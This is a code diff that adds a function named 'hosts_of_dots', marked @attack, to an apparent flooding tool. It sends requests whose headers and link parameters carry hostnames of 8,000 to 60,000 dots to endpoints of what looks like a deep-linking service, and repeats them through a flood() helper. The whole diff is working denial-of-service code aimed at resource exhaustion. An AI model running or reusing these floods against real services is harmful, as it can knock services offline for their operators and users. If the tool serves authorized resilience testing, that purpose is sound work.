@@ -101,6 +101,21 @@ def user_agents(target, until, number):
 
 
 @attack
+def hosts_of_dots(target, until, number):
+    """hosts of 16,000 to 60,000 dots, in headers and in the addresses of links"""
+    dots = "https://" + "." * 60_000
+    in_address = "https://" + "." * 16_000
+    universal = {"branch_key": target.key, "universal_link_url": "https://" + "." * 8000}
+    paths = [f"{path}?{key}={in_address}" for path in (target.visit, f"/a/{target.key}") for key in ("$fallback_url", "$og_image_url")]
+    app = f"/v1/has-app/{target.key}?browser_fingerprint_id=123456789012345678"
+    return flood(target, until, [
+        *[request("GET", app, headers={name: dots}) for name in ("Origin", "Referer")],
+        request("GET", f"/_r?branch_key={target.key}", headers={"Referer": dots, "Cookie": "_s=123456789012345678"}),
+        *[request("GET", path) for path in paths], request("POST", "/v1/open", universal),
+    ])
+
+
+@attack
 def combining_marks(target, until, number):
     """60,000 combining marks in a row, in names, addresses and headers"""
     # Marks of two classes, which a normal form sorts.
